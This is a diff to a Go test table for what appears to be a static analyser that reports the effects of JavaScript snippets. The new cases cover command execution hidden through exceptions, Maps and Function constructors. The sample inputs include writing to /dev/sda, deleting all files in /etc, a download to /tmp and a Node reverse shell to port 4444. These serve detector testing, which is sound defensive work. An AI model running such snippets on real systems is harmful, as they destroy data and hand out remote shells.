@@ -46,6 +46,9 @@ var effectCases = []flowtest.Case{
 	{Name: "vm", Code: "require('vm').runInNewContext('x')", Want: []string{"javascript: x"}},
 	{Name: "data: module", Code: "import('data:text/javascript,x()')", Want: []string{"javascript: x() <decoded>"}},
 	{Name: "arrow", Code: "const f = (c) => require('child_process').execSync(c);\nf('id')", Want: []string{"bash: id"}},
+	{Name: "thrown text", Code: "try { throw 'id' } catch (e) { require('child_process').execSync(e) }", Want: []string{"bash: id"}},
+	{Name: "map", Code: "const m = new Map([['a', 'id']]);\nrequire('child_process').execSync(m.get('a'))", Want: []string{"bash: id"}},
+	{Name: "Function with a parameter", Code: "new Function('r', \"r('fs')\")(require)", Want: []string{"javascript: var r = require; r('fs')"}},
 	{Name: "hoisted function", Code: "f('id');\nfunction f(c) { require('child_process').execSync(c) }", Want: []string{"bash: id"}},
 	{Name: "method", Code: "class A { constructor(c) { this.c = c }\n run() { require('child_process').execSync(this.c) } }\nnew A('id').run()",
 		Want: []string{"bash: id"}},
@@ -109,7 +112,7 @@ var effectCases = []flowtest.Case{
 	{Name: "descriptor", Code: "const fs = require('fs');\nconst f = fs.openSync('/dev/sda', 'w');\nfs.writeSync(f, b)", Want: []string{"write /dev/sda +truncate", "write /dev/sda | _"}},
 	{Name: "stream to file", Code: "require('https').get('https://h/x', r => r.pipe(require('fs').createWriteStream('/tmp/x')))",
 		Want: []string{"receive https://h/x", "write /tmp/x | _ <download: https://h/x>"}},
-	{Name: "directory walked", Code: "const fs = require('fs');\nfor (const f of fs.readdirSync('/etc')) fs.unlinkSync('/etc/' + f)", Want: []string{"delete /etc/_ +loop"}},
+	{Name: "directory walked", Code: "const fs = require('fs');\nfor (const f of fs.readdirSync('/etc')) fs.unlinkSync('/etc/' + f)", Want: []string{"delete /etc/* +loop"}},
 
 	// Network and data flow.
 	{Name: "reverse shell", Code: "const net = require('net'), cp = require('child_process');\nconst s = net.connect(4444, 'h', () => { const p = cp.spawn('/bin/sh', []); s.pipe(p.stdin); p.stdout.pipe(s) })",
